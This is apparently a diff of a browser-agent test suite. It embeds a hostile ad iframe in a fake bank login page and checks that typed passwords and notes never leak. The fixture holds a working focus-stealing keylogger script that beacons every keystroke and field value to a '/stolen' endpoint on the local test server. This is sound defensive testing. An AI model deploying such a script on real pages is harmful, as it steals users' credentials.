@@ -4,14 +4,14 @@ import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { type Agent, BrowserStage } from '../browser/stage.ts';
 
-const bank = (other: string) => `<!doctype html><title>Bank</title><h1>Sign in</h1>
+const bank = (frame: string) => `<!doctype html><title>Bank</title><h1>Sign in</h1>
 <label>Password <input id="password" type="password"></label><label>Note <input id="note"></label>
-<iframe src="${other}/ad" width="300" height="60"></iframe>`;
+<iframe ${frame} width="300" height="60"></iframe>`;
 
 /** Sends every key and text that it gets. */
-const ad = `<!doctype html><title>Ad</title><input id="field" style="opacity: .01"><script>
+const ad = (home: string) => `<!doctype html><title>Ad</title><input id="field" style="opacity: .01"><script>
 for (const type of ['keydown', 'beforeinput', 'input'])
-  addEventListener(type, (event) => navigator.sendBeacon('/stolen', [type, event.key ?? event.data, field.value].join(' ')), true);
+  addEventListener(type, (event) => navigator.sendBeacon('${home}/stolen', [type, event.key ?? event.data, field.value].join(' ')), true);
 setInterval(() => field.focus(), 1);</script>`;
 
 /** To be called in a `describe`. */
@@ -23,10 +23,17 @@ export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: numbe
       request.on('end', () => response.end());
       return;
     }
-    const { port } = server.address() as AddressInfo;
-    const page = request.url === '/ad' ? ad : bank(`http://localhost:${port}`);
-    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
+    const other = `http://localhost:${(server.address() as AddressInfo).port}`;
+    const pages: Readonly<Record<string, string>> = {
+      '/ad': ad(other),
+      '/bank': bank(`src="${other}/ad"`),
+      // Words of a stranger that a site shows in a frame without rights, whose address is not another's.
+      '/mail': bank(`sandbox="allow-scripts" srcdoc="${ad(other).replaceAll('"', '&quot;')}"`),
+      '/shared': bank(`sandbox="allow-scripts" src="/ad"`),
+    };
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pages[request.url ?? '']);
   });
+  const at = (path: string) => `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`;
   let stage: BrowserStage;
   let agent: Agent;
 
@@ -34,7 +41,7 @@ export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: numbe
     await new Promise<void>((resolve) => server.listen(0, resolve));
     stage = await BrowserStage.open(engine);
     agent = await stage.agent();
-    await agent.goTo(`http://127.0.0.1:${(server.address() as AddressInfo).port}/bank`);
+    await agent.goTo(at('/bank'));
   });
 
   afterAll(async () => {
@@ -44,11 +51,11 @@ export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: numbe
   });
 
   it(`gets nothing of ${tries} typed secrets, which all go into their fields`, async () => {
-    for (let at = 0; at < tries; at += 1) {
-      const [name, id] = at % 2 === 0 ? ['Password', 'password'] : ['Note', 'note'];
-      const { facts } = await agent.call('type', { ref: agent.ref(name), text: `secret-${at}` });
+    for (let n = 0; n < tries; n += 1) {
+      const [name, id] = n % 2 === 0 ? ['Password', 'password'] : ['Note', 'note'];
+      const { facts } = await agent.call('type', { ref: agent.ref(name), text: `secret-${n}` });
       expect(facts).toMatchObject({ target: expect.stringContaining(name) });
-      expect(await agent.value(`document.getElementById('${id}').value`)).toBe(`secret-${at}`);
+      expect(await agent.value(`document.getElementById('${id}').value`)).toBe(`secret-${n}`);
     }
     expect(stolen).toEqual([]);
   }, 120_000);
@@ -66,4 +73,16 @@ export function frameThatTakesFocus(engine: 'chromium' | 'firefox', tries: numbe
     }
     expect(stolen).toEqual([]);
   }, 120_000);
+
+  it.each(['/mail', '/shared'])('gets nothing either where it is sandboxed, at %s', async (path) => {
+    await agent.goTo(at(path));
+    for (let n = 0; n < 5; n += 1) {
+      await agent.call('type', { ref: agent.ref('Note'), text: `secret-${n}` });
+      await agent.call('press_key', { ref: agent.ref('Note'), key: 'x' });
+      expect(await agent.value('note.value')).toBe(`secret-${n}x`);
+    }
+    // A key without a ref does not follow the focus into the frame.
+    await agent.call('press_key', { key: 'x' }).catch(() => {});
+    expect(stolen).toEqual([]);
+  });
 }
